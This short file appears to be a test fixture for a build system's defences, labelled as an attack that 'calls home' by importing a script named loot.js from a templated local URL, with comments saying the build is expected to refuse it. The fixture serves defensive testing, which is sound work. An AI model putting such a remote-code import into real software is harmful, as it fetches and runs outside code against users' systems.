// attack: calls home by an import of a URL
// stopped by: the build refuses the import
// ends: stopped: build
import "http://127.0.0.1:{{port}}/loot.js";
function f() {}
